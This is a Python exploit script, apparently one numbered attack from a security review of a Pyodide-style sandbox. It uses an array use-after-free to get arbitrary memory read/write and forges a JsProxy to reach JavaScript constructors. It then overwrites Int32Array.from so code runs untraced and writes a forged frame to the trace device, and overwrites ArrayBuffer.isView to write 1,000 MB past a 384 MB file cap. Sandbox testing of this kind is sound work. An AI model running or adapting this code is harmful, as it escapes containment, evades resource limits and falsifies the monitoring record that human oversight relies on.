# Attack 78: from attack 74's memory to a builtin's static of the program's (atk-review, helper-155).
# The realm lock froze the builtins' prototypes, not their constructors: a constructor reached from an
# object of the program's own (a typed array's, an ArrayBuffer's) took statics of the program's.
# - Int32Array.from, which Engine.run called on the run's line numbers once the tracer had returned:
#   the program's Python ran after its run, with the interpreter whole and nothing tracing it, and
#   wrote a frame to the trace device that the host took after the tracer's own last one.
# - ArrayBuffer.isView, which the file caps count every file with (file-caps.ts): made to say false,
#   every file counted nothing, and the program held 1,000 MB of files past the 384 MB cap.
# Each prints "blocked: ..." when the static cannot be set, "armed: ..." once set, "ESCAPED" if it works.
import array, json, os, sys

try:

    ba = bytearray(64)


    def write32(addr, value):
        a = array.array("i", [0]) * (addr // 4 + 1)

        class Evil:
            def __index__(self):
                del a[:]
                return value if value < 2**31 else value - 2**32

        a[addr // 4] = Evil()


    for off, v in ((8, 0x7FFF0000), (12, 0x7FFF0000), (16, 0), (20, 0)):
        write32(id(ba) + off, v)
    mem = ba


    def r32(a):
        return int.from_bytes(mem[a:a + 4], "little")


    def w32(a, v):
        mem[a:a + 4] = (v & 0xFFFFFFFF).to_bytes(4, "little")


    def walk(c, seen):
        for s in type.__subclasses__(c):
            if s not in seen:
                seen.add(s)
                walk(s, seen)


    seen = set()
    walk(object, seen)
    JsProxy = min((c for c in seen if c.__name__ == "JsProxy"), key=id)
    kept = []


    def fake_proxy(ref):
        buf = bytearray(128)
        p = r32(id(buf) + 16)
        w32(p, 0x100000)
        w32(p + 4, id(JsProxy))
        w32(p + 36, ref)
        holder = [None]
        w32(r32(id(holder) + 12), p)
        kept.append(buf)
        return holder[0]


    Object = fake_proxy(12).constructor
    Function = Object.constructor
    Array = Object.values([True]).constructor
    bind_call = Function.prototype.call.bind
    try:
        Object.defineProperty(1, 2, 3)
    except Exception as error:
        TypeErrorJs = error.js_error.constructor
        Error = Object.getPrototypeOf(TypeErrorJs)


    def first(js_array):
        return Object.getOwnPropertyDescriptor(js_array, "0").value


    def proto_methods(pyvalue):
        holder = Object()
        holder.v = pyvalue
        return holder


    def pyproxy_method(pyvalue, name, depth=1):
        holder = Object()
        holder.v = pyvalue
        chain = Object.values(holder)
        for _ in range(depth):
            chain = chain.map(Object.getPrototypeOf)
        descs = chain.map(Object.getOwnPropertyDescriptors)
        return Object.getOwnPropertyDescriptor(first(descs), name).value.value


    def js_of(pyvalue):
        """The PyProxy JavaScript holds of pyvalue, as a JavaScript value (through an object's slot)."""
        holder = Object()
        holder.v = pyvalue
        return Object.values(holder)


    def capture_this(fn):
        """A JavaScript function that calls fn(this, *args)."""
        captureThis = pyproxy_method(lambda: None, "captureThis")
        return first(js_of(fn).map(bind_call(captureThis)))
except Exception as error:
    print("blocked: the set-up,", type(error).__name__, str(error).split("\n")[0][:120])
    sys.exit(0)


def constructor_of_element(pyvalue):
    """The JavaScript constructor of the first element toJs makes of [pyvalue] (a typed array)."""
    holder = Object()
    holder.l = [pyvalue]
    to_js = pyproxy_method([b"x"], "toJs", 2)
    copied = first(Object.values(holder).map(bind_call(to_js)))
    return Object.getOwnPropertyDescriptor(copied, "0").value


def as_descriptor_value(js_function_array):
    d = Object()
    Object.defineProperty(d, "value", Object.getOwnPropertyDescriptor(js_function_array, "0"))
    return d


# 1. Int32Array.from, called by the worker once the tracer has returned.
def after_the_run(this, source, *rest, os=os, json=json):
    body = json.dumps([["out", "stdout", "ESCAPED: written after the run, untraced\n"]]).encode()
    fd = os.open("/dev/looplab-trace", os.O_WRONLY)
    os.write(fd, len(body).to_bytes(4, "little") + (0).to_bytes(4, "little") + body)
    os.close(fd)
    return Array()


try:
    Int32Array = Object.getPrototypeOf(constructor_of_element(memoryview(array.array("i", [7])))).constructor
    print("reached:", Int32Array.name)
    holder = Object()
    holder.f = after_the_run
    Object.defineProperty(Int32Array, "from", as_descriptor_value(Object.values(holder).map(bind_call(pyproxy_method(lambda: None, "captureThis")))))
    print("armed: Int32Array.from is the program's")
except Exception as error:
    print("blocked: Int32Array.from,", type(error).__name__, str(error).split("\n")[0][:120])

# 2. ArrayBuffer.isView, which the file caps count every file with.
try:
    ArrayBuffer = constructor_of_element(b"x").buffer.constructor
    print("reached:", ArrayBuffer.name)
    never = getattr(Object, "is").bind(None, 1, 2)
    Object.defineProperty(ArrayBuffer, "isView", as_descriptor_value(Array.of(never)))
    armed = True
    print("armed: ArrayBuffer.isView is the program's")
except Exception as error:
    armed = False
    print("blocked: ArrayBuffer.isView,", type(error).__name__, str(error).split("\n")[0][:120])

if armed:
    block = b"z" * (50 * 1024 * 1024)
    total = 0
    try:
        for i in range(5):
            with open(f"/tmp/big{i}.bin", "wb") as f:
                for _ in range(4):
                    f.write(block)
                    total += len(block)
        print("ESCAPED: wrote", total // 2**20, "MB of files, past the 384 MB cap")
    except OSError as error:
        print("blocked: files stopped at", total // 2**20, "MB:", error)
